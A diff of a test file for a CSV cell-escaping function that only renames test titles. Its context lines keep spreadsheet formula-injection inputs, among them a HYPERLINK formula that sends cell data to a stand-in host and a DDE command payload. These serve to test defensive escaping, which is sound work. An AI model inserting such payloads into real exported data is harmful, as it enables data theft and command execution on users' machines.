@@ -17,7 +17,7 @@ describe("csvCell", () => {
     ["one\t=1+1", '"one\t=1+1"'],
     ["two\nlines", '"two\nlines"'],
     [" padded ", '" padded "'],
-  ])("%j", (value, expected) => {
+  ])("writes %j as %j", (value, expected) => {
     expect(csvCell(value)).toBe(expected);
   });
 
@@ -37,7 +37,7 @@ describe("csvCell", () => {
     "+351 912 345 678",
     '=HYPERLINK("https://evil.example?x="&A1,"Click")',
     "=cmd|'/C calc'!A0",
-  ])("neutralizes a formula: %j", (text) => {
+  ])("neutralises a formula: %j", (text) => {
     const [[cell] = []] = Papa.parse<string[]>(csvRecord([text])).data;
 
     expect(cell).toBe(`'${text.replaceAll("\u0000", "")}`);
